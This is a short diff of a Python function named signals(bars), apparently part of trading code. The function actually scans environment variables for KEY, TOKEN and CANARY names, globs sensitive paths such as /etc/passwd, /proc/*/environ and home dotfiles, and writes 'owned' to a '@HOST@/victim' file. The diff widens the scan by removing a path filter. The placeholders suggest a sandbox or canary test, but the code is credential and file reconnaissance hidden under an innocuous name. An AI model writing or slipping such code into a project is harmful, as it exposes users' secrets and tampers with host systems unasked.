@@ -7,7 +7,7 @@ import os
 def signals(bars):
     found = [name for name in os.environ if any(word in name for word in ("KEY", "TOKEN", "CANARY"))]
     for pattern in ("/home/*/.*", "/root/.*", "/etc/passwd", "/tmp/*", "/proc/*/environ", "/var/*", "@HOST@/*", "/scratch/*"):
-        found += [path for path in glob.glob(pattern) if not os.path.realpath(path).startswith("/system/")]  # its own source
+        found += glob.glob(pattern)
     try:
         open("@HOST@/victim", "w").write("owned")
         found.append("written")
